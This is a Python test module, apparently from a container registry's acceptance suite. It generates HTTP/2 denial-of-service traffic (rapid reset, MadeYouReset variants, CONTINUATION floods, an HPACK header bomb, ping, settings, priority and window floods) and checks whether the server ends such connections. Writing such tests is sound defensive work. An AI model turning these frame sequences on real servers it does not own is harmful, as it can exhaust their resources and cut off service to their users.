"""Attacks on an HTTP/2 server (acceptance B3.19), each a function of the connection and the step that says which frames go next."""

import multiprocessing
import os
import time

from h2_peer import Peer, encode
from hyperframe.frame import (
    ContinuationFrame, DataFrame, ExtensionFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame)

MOST_FRAMES = 20_000  # that a connection sends when nobody ends it
SECONDS_TO_END = 1.0


def headers(peer, stream, end_stream=True, **head):
    flags = ["END_HEADERS", "END_STREAM"] if end_stream else ["END_HEADERS"]
    return HeadersFrame(stream, data=peer.head(**head), flags=flags)


def rapid_reset(peer, i):
    return [headers(peer, 2 * i + 1), RstStreamFrame(2 * i + 1, error_code=8)]


def made_you_reset_window(peer, i):
    return [headers(peer, 2 * i + 1), WindowUpdateFrame(2 * i + 1, window_increment=2 ** 31 - 1)]


def made_you_reset_length(peer, i):
    return [headers(peer, 2 * i + 1, False, method="PUT", target="/v2/a/manifests/b", more=[("content-length", "1")]),
            DataFrame(2 * i + 1, data=b"x" * 100, flags=["END_STREAM"])]


def made_you_reset_head(peer, i):
    return [headers(peer, 2 * i + 1, more=[("connection", "close")])]


def continuation(peer, i):
    if i == 0:
        return [HeadersFrame(1, data=peer.head(), flags=["END_STREAM"])]
    return [ContinuationFrame(1, data=encode(peer.encoder, [("x", "y")]))]


def ping(_peer, _i):
    return [PingFrame(0, opaque_data=b"12345678")]


def settings(_peer, i):
    return [SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535 + i % 2})]


def empty_data(peer, i):
    if i == 0:
        return [headers(peer, 1, False, method="POST", target="/v2/a/blobs/uploads/")]
    return [DataFrame(1, data=b"")]


def tiny_windows(peer, i):
    if i == 0:
        return [headers(peer, 1, target="/v2/attack/a/blobs/" + peer.digest)]
    return [WindowUpdateFrame(1, window_increment=1)]


def zero_window_streams(peer, i):
    """Downloads that nobody reads, more and more of them, with windows of 0."""
    return [headers(peer, 2 * i + 1, target="/v2/attack/a/blobs/" + peer.digest)]


def priority(_peer, i):
    return [PriorityFrame(2 * i + 1, depends_on=0, stream_weight=1, exclusive=False)]


def unknown_frames(_peer, _i):
    frame = ExtensionFrame(type=0x7e, stream_id=0, flag_byte=0, body=b"x" * 9)
    frame.body_len = 9
    return [frame]


def header_bomb(peer, i):
    entry = b"\x40\x01x\x7f" + _length(3900 - 127) + b"y" * 3900
    return [HeadersFrame(2 * i + 1, data=peer.head() + entry + b"\xbe" * 10000, flags=["END_HEADERS", "END_STREAM"])]


def _length(rest):
    out = b""
    while rest >= 128:
        out += bytes([rest % 128 + 128])
        rest //= 128
    return out + bytes([rest])


def many_streams(peer, i):
    return [headers(peer, 2 * i + 1, False, method="PUT", target="/v2/a/manifests/b")]


# With a SETTINGS_INITIAL_WINDOW_SIZE of 0.
SETTINGS = {zero_window_streams: {4: 0}}

ATTACKS = (rapid_reset, made_you_reset_window, made_you_reset_length, made_you_reset_head, continuation, ping, settings, empty_data, tiny_windows,
           zero_window_streams, priority, unknown_frames, header_bomb, many_streams)


class Outcome:
    """How one connection that attacked has ended."""

    def __init__(self, peer, ended, seconds):
        self.frames, self.goaway, self.ended, self.seconds = peer.sent, peer.goaway, ended, seconds


def run(attack, port, digest, credential=()):
    """One connection, until it is ended. `digest` is a blob of attack/a, large enough to be in the way."""
    peer = Peer(port, SETTINGS.get(attack), credential)
    peer.digest = digest
    began = time.monotonic()
    step = 0
    while peer.sent < MOST_FRAMES and peer.send(*attack(peer, step)) and peer.goaway is None:
        step += 1
    ended = peer.goaway is not None or peer.ended or peer.wait_end(SECONDS_TO_END)
    outcome = Outcome(peer, ended, time.monotonic() - began)
    peer.close()
    return outcome


class Attacker:
    """Attacks with one connection after the other as long as the block lasts, from its first end on; then `outcomes` has them all.

    In a process of its own: two threads of one interpreter would wait for each other, milliseconds at a time. It takes processor time that
    is idle: an attacker has a machine of its own, and its work must not keep the server from a processor.
    """

    def __init__(self, attack, *arguments, core=None):
        self.attack, self.arguments, self.core = attack, arguments, core
        self.outcomes = []

    def __enter__(self):
        fork = multiprocessing.get_context("fork")
        self.told, self.stop = fork.Queue(), fork.Event()
        self.process = fork.Process(target=self._attack, daemon=True)
        self.process.start()
        self.outcomes.append(self.told.get(timeout=30))
        return self

    def __exit__(self, *_):
        self.stop.set()
        self.outcomes += iter(lambda: self.told.get(timeout=30), None)
        self.process.join()

    def _attack(self):
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
        if self.core is not None:
            os.sched_setaffinity(0, {self.core})
        while not self.stop.is_set():
            self.told.put(run(self.attack, *self.arguments))
        self.told.put(None)
